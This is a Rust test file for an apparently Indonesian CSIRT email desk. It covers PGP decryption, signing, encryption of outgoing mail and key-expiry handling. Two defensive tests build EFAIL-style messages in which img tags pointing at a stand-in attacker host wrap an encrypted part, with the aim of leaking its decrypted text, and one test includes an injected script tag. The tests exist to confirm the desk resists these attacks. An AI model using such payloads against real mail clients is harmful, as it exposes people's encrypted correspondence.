@@ -1,0 +1,265 @@
+//! Cases 89 and 90: what comes encrypted is opened as a whole or stays as it came; and what leaves is
+//! encrypted to whoever has a key.
+
+use std::path::Path;
+
+use siaga::domain::outgoing::SendOutcome;
+use siaga::domain::stage::{Disposition, Status};
+use tempfile::TempDir;
+
+use crate::office::{arrives, delivered, desk_with, pass, report};
+use crate::signed_mail::{DESK, give_key, pin, ring};
+use crate::support::gnupg::Gnupg;
+use crate::support::letters::Letter;
+use crate::support::reported::{ANI, BUDI, status};
+use crate::support::sealed::{encrypted, encrypted_part, signed, taken_apart};
+use crate::support::smime::Certificate;
+use crate::support::world::World;
+
+/// Words that must be nowhere if they were not to be opened.
+const SECRET: &str = "kata-sandi-panel-rahasia";
+
+/// A desk with its key, and where that lies.
+fn desk(gpg: &Gnupg) -> (World, TempDir) {
+    let mut folder = None;
+    let world = desk_with(|config| folder = Some(give_key(config, gpg)));
+    (world, folder.expect("its folder"))
+}
+
+fn letter() -> Letter {
+    Letter::from("Budi Warga <budi@warga.example>")
+        .subject("...")
+        .text(&format!("Halaman https://dinkes.ciamiskab.go.id/ bocor: {SECRET}"))
+        .file("bukti.log", "text/plain", b"GET /panel HTTP/1.1\n")
+}
+
+fn comes(world: &mut World, raw: &[u8]) {
+    world.deliver_raw(delivered(raw, Some(&pass("warga.example"))));
+    world.take_in();
+}
+
+fn told(world: &World) -> String {
+    world.latest(ANI, "Baru").words()
+}
+
+/// Whether some file below a folder holds these octets.
+fn holds(folder: &Path, needle: &[u8]) -> bool {
+    std::fs::read_dir(folder).expect("a folder").any(|entry| {
+        let path = entry.expect("an entry").path();
+        if path.is_dir() {
+            return holds(&path, needle);
+        }
+        let bytes = std::fs::read(&path).expect("a file");
+        bytes.windows(needle.len()).any(|window| window == needle)
+    })
+}
+
+#[test]
+fn an_encrypted_report_is_opened_and_the_team_told_how_it_came() {
+    let gpg = ring(&[DESK, BUDI]);
+    let (mut world, _folder) = desk(&gpg);
+    world.reconfigure(|config| pin(config, &gpg, BUDI));
+    let raw = letter().raw();
+    let with_subject = |content: &[u8]| [b"Subject: Celah pada panel\r\n", content].concat();
+    let raw = encrypted(&raw, |content| gpg.encrypt(DESK, Some(BUDI), &with_subject(content)));
+    comes(&mut world, &raw);
+    let told = told(&world);
+    assert!(
+        told.contains("diterima terenkripsi (PGP), dibuka dengan kunci meja; subjek di dalamnya: Celah pada panel"),
+        "{told}"
+    );
+    assert!(told.contains("sah, dengan kunci PGP yang terdaftar untuk pengirim"), "{told}");
+    assert!(told.contains(SECRET) && told.contains("bukti.log") && told.contains("Dinas Kesehatan"), "{told}");
+    // Kept as raw is what came; the file inside is evidence.
+    assert!(!holds(&world.folder().join("raw"), SECRET.as_bytes()));
+    assert!(holds(&world.folder().join("evidence"), b"GET /panel HTTP/1.1"));
+    // The acknowledgement repeats nothing of it, though the sender's domain vouches for him.
+    let answer = world.mailbox_of(BUDI).pop().expect("acknowledged");
+    assert!(!answer.text.contains("panel") && !answer.subject.contains("panel"), "{}", answer.text);
+    assert!(!answer.text.contains("bukti.log"), "{}", answer.text);
+}
+
+#[test]
+fn a_text_that_is_one_armoured_block_is_opened_and_so_is_a_signature_inside() {
+    let gpg = ring(&[DESK, BUDI]);
+    let (mut world, _folder) = desk(&gpg);
+    let block = String::from_utf8(gpg.encrypt(DESK, None, SECRET.as_bytes())).expect("armour");
+    comes(&mut world, &Letter::from(BUDI).text(&block).raw());
+    assert!(told(&world).contains(SECRET), "{}", told(&world));
+    let layered = signed(&letter().id("lapis@warga.example").raw(), |content| gpg.sign(BUDI, content));
+    comes(&mut world, &encrypted(&layered, |content| gpg.encrypt(DESK, None, content)));
+    let told = told(&world);
+    assert!(told.contains("dibuka dengan kunci meja") && told.contains("kunci pengirim tidak terdaftar"), "{told}");
+}
+
+#[test]
+fn case_89_an_encrypted_part_between_others_stays_closed_and_nothing_is_joined() {
+    let gpg = ring(&[DESK]);
+    let (mut world, _folder) = desk(&gpg);
+    let stolen =
+        encrypted_part(&gpg.encrypt(DESK, None, format!("Content-Type: text/plain\r\n\r\n{SECRET}").as_bytes()));
+    let (outer, _) = taken_apart(&letter().raw());
+    let html = |text: &str| format!("--efail\r\nContent-Type: text/html\r\n\r\n{text}\r\n");
+    let raw = format!(
+        "{outer}Content-Type: multipart/mixed; boundary=efail\r\n\r\n{}--efail\r\n{}\r\n{}--efail--\r\n",
+        html("<img src=\"https://penyerang.example/"),
+        String::from_utf8(stolen.clone()).expect("text"),
+        html("\">"),
+    );
+    comes(&mut world, raw.as_bytes());
+    let said = told(&world);
+    assert!(said.contains("TIDAK DIBUKA (PGP): hanya sebagian surel yang terenkripsi"), "{said}");
+    assert!(world.sent().iter().all(|mail| !mail.text.contains(SECRET)));
+    assert!(!holds(world.folder(), SECRET.as_bytes()));
+    // A block of armour with other words around it is a part too.
+    let block = String::from_utf8(gpg.encrypt(DESK, None, SECRET.as_bytes())).expect("armour");
+    comes(&mut world, &Letter::from(BUDI).text(&format!("Lihat ini:\n\n{block}")).raw());
+    assert!(!holds(world.folder(), SECRET.as_bytes()));
+}
+
+#[test]
+fn case_89_html_inside_an_encrypted_report_becomes_text_like_any_other() {
+    let gpg = ring(&[DESK]);
+    let (mut world, _folder) = desk(&gpg);
+    let page = format!(
+        "Content-Type: text/html\r\n\r\n<p>{SECRET}<img src=\"https://penyerang.example/x\"></p><script>a()</script>"
+    );
+    let raw = encrypted(&letter().raw(), |_| gpg.encrypt(DESK, None, page.as_bytes()));
+    comes(&mut world, &raw);
+    let notice = world.latest(ANI, "Baru");
+    assert!(
+        notice.text.contains(SECRET) && !notice.text.contains("<img") && !notice.text.contains("a()"),
+        "{}",
+        notice.text
+    );
+    assert!(!String::from_utf8_lossy(&notice.mail.bytes).contains("penyerang.example/x\""));
+}
+
+#[test]
+fn case_90_what_is_unprotected_damaged_or_for_another_key_stays_closed_and_the_team_knows_why() {
+    let gpg = ring(&[DESK, BUDI]);
+    let (mut world, _folder) = desk(&gpg);
+    let plain = format!("Content-Type: text/plain\r\n\r\n{}", format!("{SECRET} ").repeat(200));
+    let bare = gpg.encrypt_with(&["--rfc2440", "--cipher-algo", "3DES"], DESK, None, plain.as_bytes());
+    let whole = String::from_utf8(gpg.encrypt(DESK, None, plain.as_bytes())).expect("armour");
+    let lines: Vec<&str> = whole.lines().collect();
+    let middle = lines.len() / 2;
+    let mut damaged = lines.clone();
+    damaged.swap(middle, middle + 1);
+    let damaged = damaged.join("\n").into_bytes();
+    let foreign = gpg.encrypt(BUDI, None, plain.as_bytes());
+    let cases = [
+        (bare, "enkripsinya tanpa perlindungan keutuhan"),
+        (damaged, "rusak atau berubah di perjalanan"),
+        (foreign, "dienkripsi untuk kunci lain"),
+    ];
+    for (number, (armoured, why)) in cases.into_iter().enumerate() {
+        let raw = encrypted(&letter().id(&format!("{number}@warga.example")).raw(), |_| armoured);
+        comes(&mut world, &raw);
+        let told = told(&world);
+        assert!(told.contains("TIDAK DIBUKA (PGP)") && told.contains(why), "{why}: {told}");
+        assert!(holds(&world.folder().join("raw"), &raw[raw.len() - 200..]), "kept as it came");
+    }
+    assert_eq!(world.tickets().len(), 3);
+    assert!(!holds(world.folder(), SECRET.as_bytes()));
+}
+
+#[test]
+fn without_a_key_nothing_is_opened_and_smime_never() {
+    let gpg = ring(&[DESK]);
+    let mut world = desk_with(|_| {});
+    let raw = letter().raw();
+    comes(&mut world, &encrypted(&raw, |content| gpg.encrypt(DESK, None, content)));
+    assert!(told(&world).contains("meja ini tidak mempunyai kunci"), "{}", told(&world));
+    let certificate = Certificate::of(DESK, "30");
+    comes(&mut world, &certificate.encrypted(&letter().id("smime@warga.example").raw()));
+    assert!(
+        told(&world).contains("TIDAK DIBUKA (S/MIME): S/MIME terenkripsi tidak dibuka oleh sistem ini"),
+        "{}",
+        told(&world)
+    );
+}
+
+/// A desk that signs, with an analyst who gets his mail encrypted.
+fn desk_that_protects(gpg: &Gnupg) -> (World, TempDir) {
+    let (mut world, folder) = desk(gpg);
+    world.reconfigure(|config| {
+        config.settings.pgp.sign = true;
+        pin(config, gpg, ANI);
+        config.people.pinned.iter_mut().for_each(|keys| keys.encrypts = true);
+    });
+    (world, folder)
+}
+
+#[test]
+fn what_leaves_is_signed_and_encrypted_to_whoever_has_a_key() {
+    let mut gpg = ring(&[DESK, ANI]);
+    gpg.at("20261124T000000");
+    let (mut world, _folder) = desk_that_protects(&gpg);
+    report(&mut world);
+    let notice = world.mailbox_of(ANI).pop().expect("told");
+    let bytes = String::from_utf8(notice.mail.bytes.clone()).expect("ASCII");
+    assert!(bytes.contains("multipart/encrypted") && bytes.contains("Subject: [CIAMIS-2026-0001] ..."), "{bytes}");
+    let armoured = &bytes[bytes.find("-----BEGIN PGP MESSAGE").expect("a message")..];
+    let opened = gpg.decrypt(armoured.as_bytes());
+    assert!(opened.good && opened.said.contains("Good signature"), "{}", opened.said);
+    assert!(String::from_utf8_lossy(&opened.out).contains("Tiket CIAMIS-2026-0001 menunggu verifikasi"));
+    // A reporter's acknowledgement is signed and stays readable.
+    let answer = world.mailbox_of(BUDI).pop().expect("acknowledged");
+    assert!(String::from_utf8_lossy(&answer.mail.bytes).contains("multipart/signed"));
+    assert!(answer.words().contains("CIAMIS-2026-0001"), "{}", answer.text);
+    // He answers the encrypted mail as any other.
+    let order = Letter::from(ANI).subject(&format!("Re: {}", notice.subject)).answers(&notice.message_id).text("#spam");
+    arrives(&mut world, &order, Some(&pass("csirt.example")));
+    assert_eq!(status(&world), Status::Closed(Disposition::Spam));
+}
+
+#[test]
+fn a_retry_encrypts_anew_under_the_same_message_id() {
+    let gpg = ring(&[DESK, ANI]);
+    let (mut world, _folder) = desk_that_protects(&gpg);
+    let refused = SendOutcome::Transient { reply: "450 later".to_owned() };
+    world.provider.borrow_mut().answers.push_back(refused);
+    report(&mut world);
+    let before = world.mailbox_of(ANI).len();
+    world.minutes(5);
+    let rows = world.outbox();
+    let row = rows.iter().find(|row| row.recipient == ANI && row.attempts > 1).or(rows.first()).expect("a row");
+    assert!(world.mailbox_of(ANI).len() >= before);
+    let sent: Vec<_> = world.sent().into_iter().filter(|mail| mail.message_id == row.message_id).collect();
+    assert_eq!(sent.len(), 1, "{}", row.message_id);
+    assert!(String::from_utf8_lossy(&sent[0].mail.bytes).contains(&format!("Message-ID: <{}>", row.message_id)));
+}
+
+#[test]
+fn mail_to_a_key_that_has_run_out_waits_and_the_team_is_told() {
+    let mut gpg = Gnupg::new();
+    gpg.key(DESK, "never");
+    gpg.key(ANI, "20261110T000000");
+    gpg.at("20261105T000000");
+    let (mut world, _folder) = desk_that_protects(&gpg);
+    report(&mut world);
+    world.send();
+    assert!(world.mailbox_of(ANI).is_empty(), "nothing goes in clear");
+    let waiting = world.outbox().into_iter().filter(|row| row.recipient == ANI).collect::<Vec<_>>();
+    assert!(
+        waiting.iter().all(|row| row.sent_at.is_none() && row.reply.contains("OpenPGP key pinned")),
+        "{waiting:#?}"
+    );
+    let dedi = world.latest(crate::support::reported::DEDI, "Surel tertahan").words();
+    assert!(dedi.contains("Surel kepada ani@csirt.example tertahan"), "{dedi}");
+}
+
+#[test]
+fn what_cannot_be_signed_goes_unsigned_and_the_team_is_told() {
+    let mut gpg = Gnupg::new();
+    gpg.key(DESK, "20261110T000000");
+    gpg.at("20261105T000000");
+    let (mut world, _folder) = desk(&gpg);
+    world.reconfigure(|config| config.settings.pgp.sign = true);
+    report(&mut world);
+    world.send();
+    let notice = world.latest(ANI, "Baru");
+    assert!(!String::from_utf8_lossy(&notice.mail.bytes).contains("multipart/signed"));
+    assert!(world.latest(ANI, "tanpa tanda tangan").words().contains("TANPA tanda tangan PGP"));
+}
